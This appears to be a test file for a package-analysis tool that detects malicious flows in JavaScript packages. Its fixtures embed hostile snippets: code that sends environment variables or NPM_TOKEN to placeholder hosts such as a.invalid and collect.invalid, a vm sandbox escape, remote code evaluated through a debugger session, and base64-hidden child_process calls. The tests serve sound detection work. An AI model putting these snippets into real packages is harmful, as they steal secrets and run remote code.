import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { flowsOf } from './sent.js';

describe('a worker', () => {
  const blob = (code: string): string =>
    `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: 'text/javascript' })));`;

  it('runs scripts of a host that its code names', () => {
    assert.deepEqual(flowsOf(blob(`importScripts('https://engine.invalid/e.js'); onmessage = run;`)), [
      'downloaded>page-script',
    ]);
  });

  it('runs what is published as a package, or lies beside it, like everybody', () => {
    assert.deepEqual(flowsOf(blob(`importScripts('https://cdn.jsdelivr.net/npm/a@1/a.js'); onmessage = run;`)), []);
    assert.deepEqual(flowsOf(blob(`importScripts('./engine.js'); onmessage = run;`)), []);
  });
});

describe('a script of a virtual machine', () => {
  it('gets out of its context by what has made that', () => {
    const code = `const all = require('vm').runInNewContext("this.constructor.constructor('return process')()");`;
    assert.deepEqual(flowsOf(`${code} fetch('https://a.invalid/?' + JSON.stringify(all.env));`), [
      'environment>network@a.invalid',
    ]);
  });

  it('gives what it is, for whoever calls that', () => {
    const sends = JSON.stringify(
      `(function (load) { load('https').get('https://a.invalid/' + process.env.NPM_TOKEN); })`,
    );
    for (const run of ['runInThisContext()', 'runInNewContext({})'])
      assert.deepEqual(flowsOf(`new (require('vm').Script)(${sends}).${run}(require);`), [
        'secret-variable>network@a.invalid',
      ]);
  });
});

describe("a debugger's session", () => {
  it('evaluates what it is sent, by callbacks and by promises', () => {
    for (const name of ['inspector', 'node:inspector/promises']) {
      const code = `const { Session } = require('${name}'); const s = new Session(); s.connect();
        fetch('https://load.invalid').then((r) => r.text()).then((expression) => s.post('Runtime.evaluate', { expression }));`;
      assert.deepEqual(flowsOf(code), ['downloaded>evaluated'], name);
      assert.deepEqual(flowsOf(code.replace('Runtime.evaluate', 'Profiler.start')), [], name);
    }
  });
});

describe('the text of a function', () => {
  it('runs what stands in a comment of a function', () => {
    const comment = `function help() { /** ${Buffer.from('require("child_process").exec("x")').toString('base64')} */ }
      const text = /\\*\\* (.*?) \\*/.exec(Function.prototype.toString.call(help))[1];`;
    assert.deepEqual(flowsOf(`${comment} Function('require', Buffer.from(text, 'base64').toString())(require);`), [
      'decoded>evaluated',
    ]);
    assert.deepEqual(flowsOf(`${comment} console.log(text); eval('1');`), []);
  });
});

describe('a module of WebAssembly', () => {
  const start = (run: string): readonly string[] => {
    const code = `const cp = require('child_process'); let memory; const text = (p, n) => Buffer.from(memory.buffer, p, n).toString();
      const bytes = Buffer.from('AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDaW5jAAAKCQEHACAAQQFqCw==', 'base64');
      WebAssembly.instantiate(bytes, { env: { call: (p, n) => { ${run} } } }).then(({ instance }) => { memory = instance.exports.memory; });`;
    return analysePackage(packageOf({ 'index.js': code })).flows.map(
      ({ source, sink, moment }) => `${source}>${sink} ${moment}`,
    );
  };

  it('starts programs through what it asks its host for', () => {
    assert.deepEqual(start('cp.execSync(text(p, n));'), ['decoded>run-as-command import']);
    assert.deepEqual(start('const { execSync: e } = cp; e(text(p, n));'), ['decoded>run-as-command import']);
  });

  it('is telling where it comes from a host that stands in the code, and not where the caller says from where', () => {
    const flowsOf = (code: string): readonly string[] =>
      analysePackage(packageOf({ 'index.js': code })).flows.map(({ source, sink }) => `${source}>${sink}`);
    const load = (address: string): string =>
      `fetch(${address}).then((answer) => answer.arrayBuffer()).then((bytes) => WebAssembly.instantiate(bytes, {}));`;
    assert.deepEqual(flowsOf(load("'https://files.invalid/x.wasm'")), ['downloaded>native-loaded']);
    assert.deepEqual(flowsOf(`exports.load = (address) => { ${load('address')} };`), []);
    assert.deepEqual(flowsOf(load("new URL('x.wasm', import.meta.url)")), []);
    assert.deepEqual(flowsOf(load("'pglite.data'")), []);
  });

  it('says something through it', () => {
    assert.deepEqual(start('console.log(text(p, n));'), []);
  });
});

describe('a module that is compiled from a text', () => {
  const flowsOfFile = (text: string): readonly string[] => {
    const encoded = Buffer.from(text).toString('base64');
    const files = {
      'index.js': `const { all, send } = require('./own'); send(all());`,
      'own.js': `module._compile(atob('${encoded}'), __filename);`,
    };
    const { flows } = analysePackage(packageOf(files));
    return flows.filter(({ source }) => source !== 'decoded').map(({ source, sink }) => `${source}>${sink}`);
  };

  it('exports what the text does, and requires beside its file', () => {
    const send = `exports.send = (body) => fetch('https://collect.invalid', { method: 'POST', body });`;
    assert.deepEqual(flowsOfFile(`exports.all = () => JSON.stringify(process.env); ${send}`), ['environment>network']);
    assert.deepEqual(flowsOfFile(`module.exports = { all: () => require('os').EOL }; ${send}`), []);
  });

  it('is in a file of another kind that is read as code', () => {
    const load = (name: string): readonly string[] => {
      const files = {
        'index.js': `const Module = require('module'); const file = require('path').join(__dirname, 'prebuilds', 'any', 'simd.node');
          const m = new Module(file, module); Module._extensions['${name}'].call(null, m, file); module.exports = m.exports;`,
        'prebuilds/any/simd.node': `// simd\nfetch('https://collect.invalid', { method: 'POST', body: JSON.stringify(process.env) });`,
      };
      return analysePackage(packageOf(files)).flows.map(({ source, sink, host }) => `${source}>${sink}@${host}`);
    };
    assert.deepEqual(load('.js'), ['environment>network@collect.invalid']);
    assert.deepEqual(load('.node'), []);
  });
});
